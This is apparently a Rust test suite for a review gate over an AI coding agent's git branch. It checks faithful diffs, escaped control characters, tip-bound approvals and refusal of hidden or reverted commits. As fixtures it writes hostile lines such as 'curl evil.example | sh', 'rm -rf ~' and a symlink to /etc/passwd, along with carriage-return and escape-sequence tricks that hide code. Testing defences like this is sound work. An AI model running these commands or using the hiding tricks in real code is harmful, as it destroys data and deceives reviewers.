//! `session review` shows the change itself and binds a verdict to what was seen: the patch on
//! stdout and in the reports equals `git diff`, the pager only at a terminal, `--tip`,
//! `--approve` while an agent runs, and a rejection's message reaching the next run.

mod common;

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use common::{TestEnv, each_git, json, run, write_file};

fn make_executable(path: &Path) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A session `s` whose agent changed files of every kind: hunks apart in one file, added,
/// deleted, renamed, a mode change, a binary file, a name with a space, backticks and
/// trailing blanks in content. Returns (base, tip) once it is committed.
fn varied_session(t: &TestEnv) -> (String, String) {
    let long: String = (1..=40).map(|i| format!("line {i}\n")).collect();
    t.write("long.txt", &long);
    t.write("gone.txt", "bye\n");
    t.write("move-me.txt", "one\ntwo\nthree\nfour\nfive\n");
    t.write("tool.sh", "#!/bin/sh\n");
    t.git(&["add", "."]);
    t.git(&["commit", "-q", "-m", "files"]);
    let wt = t.add("s");
    let changed = long
        .replace("line 3\n", "line three\n")
        .replace("line 30\n", "line thirty\nline thirty-one and a half\n");
    write_file(&wt.join("long.txt"), &changed);
    std::fs::remove_file(wt.join("gone.txt")).unwrap();
    std::fs::rename(wt.join("move-me.txt"), wt.join("moved.txt")).unwrap();
    make_executable(&wt.join("tool.sh"));
    std::fs::write(wt.join("blob.bin"), [0u8, 1, 2, 3, 0, 255, 10]).unwrap();
    write_file(
        &wt.join("with space.md"),
        "```rust\nfn x() {}\n```\ntrailing   \n",
    );
    t.git_in(&wt, &["add", "-A"]);
    t.git_in(&wt, &["commit", "-q", "-m", "the agent's work"]);
    let base = t.git(&["rev-parse", "main"]);
    let tip = t.git(&["rev-parse", "codex/s"]);
    (base, tip)
}

/// Whether the repository has `name` (a verdict ref, say).
fn has_ref(t: &TestEnv, name: &str) -> bool {
    t.git_output(&t.repo, &["rev-parse", "-q", "--verify", name])
        .status
        .success()
}

/// The fenced `diff` blocks of a markdown report, joined: the patch it carries.
fn fenced_patch(markdown: &str) -> String {
    let mut out = String::new();
    let mut fence: Option<String> = None;
    for line in markdown.split_inclusive('\n') {
        match &fence {
            None => {
                let ticks = line.len() - line.trim_start_matches('`').len();
                if ticks >= 3 && line[ticks..].trim_end() == "diff" {
                    fence = Some("`".repeat(ticks));
                }
            }
            Some(f) if line.trim_end() == f => fence = None,
            Some(_) => out.push_str(line),
        }
    }
    out
}

#[test]
fn the_patch_on_stdout_and_in_the_markdown_report_equals_git_diff() {
    each_git(|t| {
        let (base, tip) = varied_session(t);
        let git_diff = common::stdout(&t.git_output(&t.repo, &["diff", &base, &tip]).stdout);
        assert!(git_diff.contains("Binary files"), "{git_diff}");

        let (code, out, err) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("## Files"), "the summary first: {out}");
        let at = out
            .find("diff --git")
            .expect("the patch follows the summary");
        assert_eq!(&out[at..], git_diff, "stdout's patch is git diff's");
        assert!(
            out.contains(&format!("git codex session review s --approve --tip {tip}")),
            "the command that approves this tip: {out}"
        );

        let (code, stat, _) = run(t.codex(&["session", "review", "s", "--stat"]));
        assert_eq!(code, 0);
        assert!(
            stat.contains("## Files") && !stat.contains("diff --git"),
            "{stat}"
        );

        let report = t.root().join("r.md");
        let (code, _, err) =
            run(t.codex(&["session", "review", "s", "-o", report.to_str().unwrap()]));
        assert_eq!(code, 0, "{err}");
        let markdown = std::fs::read_to_string(&report).unwrap();
        assert_eq!(fenced_patch(&markdown), git_diff, "{markdown}");
        assert!(markdown.contains("Binary file"), "{markdown}");
        let saved =
            std::fs::read_to_string(t.state_dir().join(format!("reviews/s/{tip}.md"))).unwrap();
        assert_eq!(fenced_patch(&saved), git_diff);
        assert!(saved.contains(&format!("--approve --tip {tip}")), "{saved}");
    });
}

#[test]
fn json_carries_each_files_hunks_with_patch_and_long_patches_are_cut_with_a_note() {
    each_git(|t| {
        let (base, tip) = varied_session(t);
        let (code, out, err) = run(t.codex(&["session", "review", "s", "--format", "json"]));
        assert_eq!(code, 0, "{err}");
        let v = json(&out);
        assert_eq!(v["schema"], 1);
        assert!(
            v["files"][0].get("hunks").is_none(),
            "hunks only with --patch"
        );
        assert_eq!(
            v["approveCommand"],
            format!("git codex session review s --approve --tip {tip}")
        );

        let (code, out, _) =
            run(t.codex(&["session", "review", "s", "--format", "json", "--patch"]));
        assert_eq!(code, 0);
        let v = json(&out);
        let long = v["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == "long.txt")
            .unwrap();
        let hunks = long["hunks"].as_array().unwrap();
        assert_eq!(hunks.len(), 2, "two hunks apart: {long}");
        // Each hunk's lines are git's, in order.
        let git_diff = common::stdout(
            &t.git_output(&t.repo, &["diff", &base, &tip, "--", "long.txt"])
                .stdout,
        );
        let mut from_json = String::new();
        for hunk in hunks {
            from_json.push_str(hunk["header"].as_str().unwrap());
            from_json.push('\n');
            for line in hunk["lines"].as_array().unwrap() {
                from_json.push_str(line.as_str().unwrap());
                from_json.push('\n');
            }
        }
        assert!(
            git_diff.ends_with(&from_json),
            "{git_diff}\n---\n{from_json}"
        );
        assert_eq!(hunks[0]["oldStart"], 1);
        assert_eq!(long["hunkLinesCut"], 0);
        let binary = v["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == "blob.bin")
            .unwrap();
        assert_eq!(binary["binary"], true);
        assert_eq!(binary["hunks"].as_array().unwrap().len(), 0);

        t.codex(&["config", "set", "review.max_patch_lines", "8"])
            .assert()
            .success();
        let (_, out, _) = run(t.codex(&["session", "review", "s", "--format", "json", "--patch"]));
        let v = json(&out);
        let long = v["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == "long.txt")
            .unwrap();
        assert!(long["hunkLinesCut"].as_u64().unwrap() > 0, "{long}");
        let (_, md, _) = run(t.codex(&["session", "review", "s", "--format", "markdown"]));
        assert!(md.contains("left out (review.max_patch_lines = 8)"), "{md}");
        // stdout's patch is never cut: it is what git diff prints.
        let (_, out, _) = run(t.codex(&["session", "review", "s"]));
        assert!(out.contains("+line thirty-one and a half"), "{out}");
    });
}

#[test]
fn control_characters_in_the_agents_files_are_shown_escaped_and_colour_is_gits() {
    each_git(|t| {
        let wt = t.add("s");
        // A line that would clear the screen and hide what follows, at a terminal.
        write_file(&wt.join("evil.txt"), "safe\x1b[2J\x1b[8mhidden\x07\n");
        let (code, out, _) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0);
        assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
        assert!(out.contains("+safe\\033[2J\\033[8mhidden\\a"), "{out}");

        let (_, out, _) = run(t.codex(&["--color=always", "session", "review", "s"]));
        assert!(
            out.contains("\x1b[32m+safe\x1b[7m\\033\x1b[27m[2J"),
            "git's green for an added line, the escape set apart: {out:?}"
        );
        assert!(
            out.contains("\x1b[1mdiff --git a/evil.txt b/evil.txt\x1b[m"),
            "{out:?}"
        );
        // The person's own colours count.
        t.git(&["config", "color.diff.new", "blue"]);
        let (_, out, _) = run(t.codex(&["--color=always", "session", "review", "s"]));
        assert!(out.contains("\x1b[34m+safe"), "{out:?}");
        // Not a terminal, no --color: no colour.
        let (_, out, _) = run(t.codex(&["session", "review", "s"]));
        assert!(!out.contains("\x1b["), "{out:?}");
    });
}

/// Runs `git-codex ARGS` at a pseudo-terminal with `env` added; returns what the terminal
/// showed. `None` when python3 is missing (and the test may skip).
fn at_a_terminal(t: &TestEnv, args: &[&str], env: &[(&str, &str)]) -> Option<String> {
    let python = common::sandbox::python_for_a_terminal()?;
    let mut argv = vec!["git-codex".to_string()];
    argv.extend(args.iter().map(|a| a.to_string()));
    let driver = format!(
        r#"
import os, pty
pid, fd = pty.fork()
if pid == 0:
    os.chdir({repo:?})
    os.execv({bin:?}, {argv:?})
out = b""
while True:
    try:
        data = os.read(fd, 4096)
    except OSError:
        break
    if not data:
        break
    out += data
os.waitpid(pid, 0)
print(out.decode(errors="replace"))
"#,
        repo = t.repo.display().to_string(),
        bin = common::BIN,
    );
    let out = std::process::Command::new(python)
        .env_clear()
        .envs(t.vars())
        .envs(env.iter().copied())
        .args(["-c", &driver])
        .output()
        .unwrap();
    Some(String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn the_pager_is_used_at_a_terminal_and_never_without_one() {
    each_git(|t| {
        let wt = t.add("s");
        write_file(&wt.join("paged.txt"), "through the pager\n");
        let marker = t.root().join("pager-ran");
        let pager = t.root().join("pager.sh");
        write_file(
            &pager,
            &format!(
                "#!/bin/sh\necho \"$LESS\" > {}\nexec cat\n",
                marker.display()
            ),
        );
        make_executable(&pager);
        let pager = pager.display().to_string();

        // Not a terminal: never the pager, whatever names one.
        let mut cmd = t.codex(&["session", "review", "s"]);
        cmd.env("GIT_PAGER", &pager).env("PAGER", &pager);
        let (code, out, _) = run(cmd);
        assert_eq!(code, 0);
        assert!(out.contains("+through the pager"));
        assert!(!marker.exists(), "no pager without a terminal");

        let Some(shown) = at_a_terminal(t, &["session", "review", "s"], &[("GIT_PAGER", &pager)])
        else {
            return;
        };
        assert!(shown.contains("+through the pager"), "{shown}");
        assert_eq!(
            std::fs::read_to_string(&marker).unwrap().trim(),
            "FRX",
            "GIT_PAGER ran, with git's LESS"
        );
        std::fs::remove_file(&marker).unwrap();
        // core.pager, as git reads it; --stat too goes through it.
        t.git(&["config", "core.pager", &pager]);
        let shown = at_a_terminal(t, &["session", "review", "s", "--stat"], &[]).unwrap();
        assert!(
            shown.contains("## Files") && !shown.contains("diff --git"),
            "{shown}"
        );
        assert!(marker.exists(), "core.pager ran");
        // At a terminal, git's colours (as git, none when TERM is unset or dumb).
        let shown = at_a_terminal(t, &["session", "review", "s"], &[("TERM", "xterm")]).unwrap();
        assert!(
            shown.contains("\x1b[32m+through"),
            "coloured at a terminal: {shown:?}"
        );
        let shown = at_a_terminal(t, &["session", "review", "s"], &[("TERM", "dumb")]).unwrap();
        assert!(!shown.contains("\x1b[32m"), "{shown:?}");
    });
}

#[test]
fn a_verdict_with_tip_is_recorded_only_for_that_tip_and_names_what_was_added() {
    each_git(|t| {
        let wt = t.add("s");
        t.commit_in(&wt, "a.txt", "a\n");
        let (code, _, _) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0);
        let seen = t.git(&["rev-parse", "codex/s"]);
        // The agent goes on after the person read the review.
        write_file(&wt.join("b.txt"), "b\n");
        t.git_in(&wt, &["add", "b.txt"]);
        t.git_in(&wt, &["commit", "-q", "-m", "sneak in b.txt"]);

        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve", "--tip", &seen]));
        assert_eq!(code, 3, "{err}");
        assert!(
            err.contains("sneak in b.txt") && err.contains("1 commit(s) were added since"),
            "{err}"
        );
        assert!(
            !has_ref(t, "refs/codex/approvals/s"),
            "no verdict was recorded"
        );
        let (code, _, err) =
            run(t.codex(&["session", "review", "s", "--reject", "--tip", &seen[..10]]));
        assert_eq!(code, 3, "{err}");
        assert!(
            !has_ref(t, "refs/codex/rejections/s"),
            "no verdict was recorded"
        );

        // Uncommitted changes are no part of what was seen: review would stage them.
        let tip = t.git(&["rev-parse", "codex/s"]);
        write_file(&wt.join("c.txt"), "c\n");
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve", "--tip", &tip]));
        assert_eq!(code, 3, "{err}");
        assert!(err.contains("codex(s): snapshot"), "{err}");
        assert!(
            !has_ref(t, "refs/codex/approvals/s"),
            "no verdict was recorded"
        );

        // Bad ids are bad input, and change nothing.
        let before = t.git(&["for-each-ref"]);
        for bad in [
            "main",
            "zz",
            "123",
            "0000000000000000000000000000000000000000",
        ] {
            let (code, _, err) =
                run(t.codex(&["session", "review", "s", "--approve", "--tip", bad]));
            assert_eq!(code, 2, "{bad}: {err}");
            assert!(err.contains("--tip"), "{err}");
        }
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--tip", &tip]));
        assert_eq!(code, 2, "--tip without a verdict: {err}");
        assert_eq!(t.git(&["for-each-ref"]), before);

        // The tip read, by a unique prefix: approved, and said what.
        let tip = t.git(&["rev-parse", "codex/s"]);
        let (code, _, err) =
            run(t.codex(&["session", "review", "s", "--approve", "--tip", &tip[..8]]));
        assert_eq!(code, 0, "{err}");
        assert!(
            err.contains(&format!("Approved session 's' at {tip}")),
            "{err}"
        );
        for line in [
            "A a.txt (+1 -0)",
            "A b.txt (+1 -0)",
            "A c.txt (+1 -0)",
            "3 file(s), +3 -0",
        ] {
            assert!(err.contains(line), "{line}: {err}");
        }
        let approved = t.git(&["rev-parse", "refs/codex/approvals/s^{commit}"]);
        assert_eq!(approved, tip);
    });
}

#[test]
fn approve_while_the_agent_runs_refuses_at_once() {
    each_git(|t| {
        let wt = t.add("s");
        t.commit_in(&wt, "a.txt", "a\n");
        let mut agent = t.hold_agent("s", "echo half > half.txt");
        common::wait_until_or(
            || format!("the agent runs: {}", agent.log()),
            || wt.join("half.txt").exists(),
        );
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve"]));
        // It returned while the agent still runs: it did not wait for it.
        assert!(
            agent.child.try_wait().unwrap().is_none(),
            "the agent still runs"
        );
        assert_eq!(code, 3, "{err}");
        assert!(err.contains("agent is still running"), "{err}");
        assert!(
            !has_ref(t, "refs/codex/approvals/s"),
            "no verdict was recorded"
        );
        assert!(
            t.git_in(&wt, &["status", "--porcelain"])
                .contains("half.txt"),
            "nothing of the running agent's was staged"
        );
        agent.release();
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve"]));
        assert_eq!(code, 0, "{err}");
    });
}

#[test]
fn a_rejections_message_reaches_the_next_run_and_the_agents_instructions() {
    each_git(|t| {
        let wt = t.add("s");
        t.commit_in(&wt, "login.rs", "fn login() {}\n");
        // Before any rejection: nothing.
        let show = "echo \"[${CODEX_REVIEW_FEEDBACK-unset}]\"";
        let (code, out, err) = run(t.codex(&[
            "session",
            "run",
            "s",
            "--sandbox",
            "network-enabled",
            "--",
            "sh",
            "-c",
            show,
        ]));
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("[unset]"), "{out}");

        let words = "fix the failing test in login.rs";
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--reject", "-m", words]));
        assert_eq!(code, 0, "{err}");
        let read = "cat \"$CODEX_REVIEW_FEEDBACK\"";
        let (code, out, err) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", read]));
        assert_eq!(code, 0, "{err}");
        assert!(
            out.contains(words),
            "the agent reads the reviewer's words: {out}\n{err}"
        );
        assert!(out.contains("rejected by Test User"), "{out}");

        // A known agent reads them in its own terms too: Codex's AGENTS.md in its CODEX_HOME,
        // after the person's own.
        write_file(&t.home.join(".codex/AGENTS.md"), "Always run the tests.\n");
        let bin = t.root().join("bin");
        write_file(
            &bin.join("codex"),
            "#!/bin/sh\ncat \"$CODEX_HOME/AGENTS.md\"\n",
        );
        make_executable(&bin.join("codex"));
        let codex = bin.join("codex").display().to_string();
        let (code, out, err) = run(t.codex(&["session", "run", "s", "--", &codex]));
        assert_eq!(code, 0, "{err}");
        assert!(
            out.contains("Always run the tests.") && out.contains(words),
            "{out}\n{err}"
        );

        // Once the agent has moved on from the rejected tip, the feedback is not for it.
        let fix = "echo fixed > fix.txt";
        let (code, _, err) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", fix]));
        assert_eq!(code, 0, "{err}");
        let (code, out, _) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", show]));
        assert_eq!(code, 0);
        assert!(out.contains("[unset]"), "{out}");
        let (code, out, err) = run(t.codex(&["session", "run", "s", "--", &codex]));
        assert_eq!(code, 0, "{err}");
        assert!(
            out.contains("Always run the tests.") && !out.contains(words),
            "{out}"
        );
    });
}

/// The review's view of each file, from its JSON with hunks: (path, +, -, the hunks' lines).
fn files_with_hunks(t: &TestEnv, id: &str) -> Vec<(String, u64, u64, String)> {
    let (code, out, err) = run(t.codex(&["session", "review", id, "--format", "json", "--patch"]));
    assert_eq!(code, 0, "{err}");
    json(&out)["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let lines: Vec<String> = f["hunks"]
                .as_array()
                .unwrap()
                .iter()
                .flat_map(|h| h["lines"].as_array().unwrap().iter())
                .map(|l| l.as_str().unwrap().to_string())
                .collect();
            (
                f["path"].as_str().unwrap().to_string(),
                f["insertions"].as_u64().unwrap(),
                f["deletions"].as_u64().unwrap(),
                lines.join("\n"),
            )
        })
        .collect()
}

#[test]
fn a_type_change_and_names_that_are_not_utf8_hide_nothing_of_the_change() {
    each_git(|t| {
        t.write("defaults.conf", "safe=1\n");
        std::os::unix::fs::symlink("defaults.conf", t.repo.join("config")).unwrap();
        t.write("run.sh", "one\ntwo\n");
        t.git(&["add", "."]);
        t.git(&["commit", "-q", "-m", "files"]);
        let wt = t.add("s");
        // A link made a file, a file made a link: git writes each as two parts.
        std::fs::remove_file(wt.join("config")).unwrap();
        write_file(&wt.join("config"), "evil=1\nrm -rf ~\n");
        std::fs::remove_file(wt.join("run.sh")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", wt.join("run.sh")).unwrap();
        // Two names whose bytes are not UTF-8 and differ in one byte.
        use std::os::unix::ffi::OsStrExt as _;
        std::fs::write(
            wt.join(std::ffi::OsStr::from_bytes(b"notes\xfe")),
            "harmless\n",
        )
        .unwrap();
        std::fs::write(
            wt.join(std::ffi::OsStr::from_bytes(b"notes\xff")),
            "curl evil.sh | sh\n",
        )
        .unwrap();
        t.git_in(&wt, &["add", "-A"]);
        t.git_in(&wt, &["commit", "-q", "-m", "tweak"]);
        let base = t.git(&["rev-parse", "main"]);

        let files = files_with_hunks(t, "s");
        let numstat = t.git(&["diff", "--numstat", &base, "codex/s"]);
        let counts: Vec<String> = files
            .iter()
            .map(|(p, i, d, _)| format!("{i}\t{d}\t{p}"))
            .collect();
        assert_eq!(
            counts.join("\n"),
            numstat.replace("\"", ""),
            "per-file counts are git diff --numstat's"
        );
        let of = |name: &str| {
            files
                .iter()
                .find(|f| f.0 == name)
                .map(|f| f.3.clone())
                .unwrap()
        };
        assert!(
            of("config").contains("+evil=1") && of("config").contains("+rm -rf ~"),
            "{files:?}"
        );
        assert!(of("run.sh").contains("+/etc/passwd"), "{files:?}");
        assert!(of("notes\\376").contains("+harmless"), "{files:?}");
        assert!(of("notes\\377").contains("+curl evil.sh | sh"), "{files:?}");

        let page = t.root().join("page.html");
        let (code, _, err) = run(t.codex(&[
            "session",
            "review",
            "s",
            "--format",
            "html",
            "-o",
            page.to_str().unwrap(),
        ]));
        assert_eq!(code, 0, "{err}");
        let html = std::fs::read_to_string(&page).unwrap();
        for shown in [
            "evil=1",
            "rm -rf ~",
            "/etc/passwd",
            "harmless",
            "curl evil.sh | sh",
        ] {
            assert!(html.contains(shown), "{shown} is on the page");
        }
    });
}

#[test]
fn a_rejection_of_an_earlier_session_of_that_id_is_not_feedback() {
    each_git(|t| {
        t.add("s");
        let (code, _, err) = run(t.codex(&[
            "session",
            "review",
            "s",
            "--reject",
            "-m",
            "OLD TASK: implement X",
        ]));
        assert_eq!(code, 0, "{err}");
        t.codex(&["session", "remove", "s"]).assert().success();
        t.add("s");
        let show = "echo \"[${CODEX_REVIEW_FEEDBACK-unset}]\"";
        let (code, out, err) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", show]));
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("[unset]"), "{out}");
        // The new session's own rejection is.
        let (code, _, _) = run(t.codex(&["session", "review", "s", "--reject", "-m", "NEW words"]));
        assert_eq!(code, 0);
        let read = "cat \"$CODEX_REVIEW_FEEDBACK\"";
        let (_, out, _) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", read]));
        assert!(
            out.contains("NEW words") && !out.contains("OLD TASK"),
            "{out}"
        );
    });
}

#[test]
fn in_colour_a_real_control_character_is_set_apart_from_the_text_backslash_r() {
    each_git(|t| {
        let wt = t.add("s");
        write_file(
            &wt.join("admin.py"),
            "# old: isAdmin = False;\risAdmin = True  # \\r\n",
        );
        let (_, out, _) = run(t.codex(&["--color=always", "session", "review", "s"]));
        assert!(
            out.contains("False;\x1b[7m\\r\x1b[27misAdmin = True  # \\r"),
            "{out:?}"
        );
        let page = t.root().join("page.html");
        run(t.codex(&[
            "session",
            "review",
            "s",
            "--format",
            "html",
            "-o",
            page.to_str().unwrap(),
        ]));
        let html = std::fs::read_to_string(&page).unwrap();
        assert!(html.contains("False;<span class=\"ctl\""), "{html}");
    });
}

#[test]
fn an_approval_covers_its_commit_and_never_an_older_one_of_its_history() {
    each_git(|t| {
        t.write("app.sh", "echo app\n");
        t.git(&["add", "."]);
        t.git(&["commit", "-q", "-m", "app"]);
        let wt = t.add("s");
        t.commit_in(&wt, "app.sh", "echo app\ncurl evil | sh\n");
        let payload = t.git(&["rev-parse", "codex/s"]);
        t.commit_in(&wt, "app.sh", "echo app\n");
        t.commit_in(&wt, "README", "doc\n");
        let (code, out, _) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0);
        assert!(
            !out.contains("curl evil"),
            "the net change the person reads: {out}"
        );
        let tip = t.git(&["rev-parse", "codex/s"]);
        let (code, _, err) = run(t.codex(&["session", "review", "s", "--approve", "--tip", &tip]));
        assert_eq!(code, 0, "{err}");

        // The agent resets its branch to the commit the later ones took back.
        t.git_in(&wt, &["reset", "-q", "--hard", &payload]);
        let list = json(&common::stdout(
            &t.codex(&["session", "list", "--json"])
                .output()
                .unwrap()
                .stdout,
        ));
        assert_eq!(list["sessions"][0]["state"], "stale-approval", "{list}");
        let merged = t.git_output(&t.repo, &["merge", "-q", "--no-edit", "codex/s"]);
        assert!(
            !merged.status.success(),
            "the gate refuses a commit older than the approved one"
        );
        let _ = t.git_output(&t.repo, &["reset", "-q", "--merge"]);
        let (code, _, err) = run(t.codex(&["session", "merge", "s"]));
        assert_ne!(code, 0, "{err}");
        assert_eq!(t.git(&["show", "main:app.sh"]), "echo app");

        // Nor a copy of it, the branch back at the approved tip: a cherry-pick of the commit a
        // later one took back.
        t.git_in(&wt, &["reset", "-q", "--hard", &tip]);
        // (main moves first, so the pick is a new commit, not the session's own again)
        t.commit_in(&t.repo, "main-only.txt", "main\n");
        let picked = t.git_output(&t.repo, &["cherry-pick", &payload]);
        let said = String::from_utf8_lossy(&picked.stderr);
        assert!(
            !picked.status.success() && said.contains("the review gate refused"),
            "the gate refuses the copy: {said}"
        );
        let _ = t.git_output(&t.repo, &["reset", "-q", "--merge"]);
        assert_eq!(t.git(&["show", "main:app.sh"]), "echo app");
        // Nor beside a copy of the approved commit, the one between left out: picked on a
        // branch of the person's, then landed in one move.
        t.git(&["switch", "-q", "-c", "side"]);
        t.git(&["cherry-pick", &payload, &tip]);
        t.git(&["switch", "-q", "main"]);
        let landed = t.git_output(&t.repo, &["merge", "-q", "--ff-only", "side"]);
        assert!(
            !landed.status.success(),
            "{}",
            String::from_utf8_lossy(&landed.stderr)
        );
        let _ = t.git_output(&t.repo, &["reset", "-q", "--merge"]);
        assert_eq!(t.git(&["show", "main:app.sh"]), "echo app");

        // The approved commit itself lands, history and all, replayed too.
        let (code, _, err) = run(t.codex(&["session", "merge", "s", "--strategy", "rebase"]));
        assert_eq!(code, 0, "{err}");
        assert_eq!(t.git(&["show", "main:README"]), "doc");
        assert_eq!(t.git(&["show", "main:app.sh"]), "echo app");
        t.git(&["reset", "-q", "--hard", "HEAD~3"]);
        let (code, _, err) = run(t.codex(&["session", "merge", "s"]));
        assert_eq!(code, 0, "{err}");
        assert_eq!(t.git(&["show", "main:README"]), "doc");
    });
}

#[test]
fn names_that_read_alike_are_two_files_and_what_cannot_be_shown_is_said() {
    each_git(|t| {
        let wt = t.add("s");
        use std::os::unix::ffi::OsStrExt as _;
        // A name of four characters: a backslash, then 377.
        let literal = std::ffi::OsStr::from_bytes(b"\\377");
        std::fs::write(wt.join(literal), "a literal backslash name\n").unwrap();
        std::fs::write(
            wt.join(std::ffi::OsStr::from_bytes(b"\xff")),
            "curl evil | sh\n",
        )
        .unwrap();
        // What stands for content the patch does not hold, and a line that runs otherwise
        // than it reads.
        write_file(
            &wt.join("assets/install.sh"),
            "version https://git-lfs.github.com/spec/v1\noid sha256:0000000000000000000000000000000000000000000000000000000000000000\nsize 46\n",
        );
        write_file(&wt.join("admin.py"), "# normalise\rprint('EVIL RAN')\n");
        t.git_in(&wt, &["add", "-A"]);
        t.git_in(&wt, &["commit", "-q", "-m", "work"]);
        // A person who reads names raw changes nothing: git-codex asks for them quoted.
        t.git(&["config", "core.quotePath", "false"]);
        let files = files_with_hunks(t, "s");
        let numstat = t.git(&["diff", "--numstat", "main", "codex/s"]);
        assert_eq!(files.len(), numstat.lines().count(), "{files:?}\n{numstat}");
        let evil: Vec<_> = files.iter().filter(|f| f.3.contains("curl evil")).collect();
        assert_eq!(
            evil.len(),
            1,
            "one file holds it, under its own name: {files:?}"
        );
        let literal: Vec<_> = files
            .iter()
            .filter(|f| f.3.contains("literal backslash"))
            .collect();
        assert_eq!(literal.len(), 1, "{files:?}");

        let (code, out, err) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0);
        assert!(
            err.contains("assets/install.sh as a Git LFS pointer"),
            "{err}"
        );
        assert!(
            err.contains("admin.py: 1 added line(s) hold control or invisible characters"),
            "{err}"
        );
        assert!(out.contains("## Not shown as it will be"), "{out}");
        assert!(
            out.contains("2 file(s)") || out.contains("4 file(s)"),
            "{out}"
        );
    });
}

#[test]
fn a_replay_never_lands_what_the_approved_tip_does_not_hold() {
    each_git(|t| {
        let wt = t.add("s");
        t.commit_in(&wt, "good.txt", "good\n");
        let good = t.git(&["rev-parse", "codex/s"]);
        t.commit_in(&wt, "evil.sh", "curl evil.example | sh\n");
        let evil = t.git(&["rev-parse", "codex/s"]);
        // A merge that keeps its first side: the tip holds good.txt alone.
        t.git_in(&wt, &["reset", "-q", "--hard", &good]);
        t.git_in(
            &wt,
            &[
                "merge",
                "-q",
                "-s",
                "ours",
                "--no-edit",
                "-m",
                "merge tidy",
                &evil,
            ],
        );
        let (code, out, _) = run(t.codex(&["session", "review", "s"]));
        assert_eq!(code, 0);
        assert!(
            !out.contains("b/evil.sh") && !out.contains("`evil.sh`"),
            "{out}"
        );
        let tip = t.git(&["rev-parse", "codex/s"]);
        t.codex(&["session", "review", "s", "--approve", "--tip", &tip])
            .assert()
            .success();

        t.commit_in(&t.repo, "m.txt", "m\n");
        let (code, _, err) = run(t.codex(&["session", "merge", "s", "--strategy", "rebase"]));
        assert_ne!(code, 0, "a replay would land evil.sh: {err}");
        let files = t.git(&["ls-tree", "--name-only", "main"]);
        assert!(!files.contains("evil.sh"), "{files}");
        assert_eq!(
            t.git(&["status", "--porcelain", "--untracked-files=no"]),
            "",
            "nothing left staged"
        );
        // The merge lands the approved tip itself, whose tree never held it.
        let (code, _, err) = run(t.codex(&["session", "merge", "s"]));
        assert_eq!(code, 0, "{err}");
        let files = t.git(&["ls-tree", "--name-only", "main"]);
        assert!(
            files.contains("good.txt") && !files.contains("evil.sh"),
            "{files}"
        );
    });
}

#[test]
fn a_replay_of_an_approved_range_whose_last_commit_takes_a_line_out_lands() {
    each_git(|t| {
        t.write("app.py", "def run(path):\n    return path\n");
        t.git(&["add", "."]);
        t.git(&["commit", "-q", "-m", "app"]);
        let wt = t.add("s");
        t.commit_in(
            &wt,
            "app.py",
            "def run(path):\n    x = load_config(path)\n    os.system(x.hook)\n    return path\n",
        );
        t.commit_in(
            &wt,
            "app.py",
            "def run(path):\n    x = load_config(path)\n    return path\n",
        );
        let tip = t.git(&["rev-parse", "codex/s"]);
        t.codex(&["session", "review", "s", "--approve", "--tip", &tip])
            .assert()
            .success();
        t.commit_in(&t.repo, "m.txt", "m\n");
        let (code, _, err) = run(t.codex(&["session", "merge", "s", "--strategy", "rebase"]));
        assert_eq!(code, 0, "the replay of the approved range lands: {err}");
        assert!(!t.git(&["show", "main:app.py"]).contains("os.system"));
    });
}
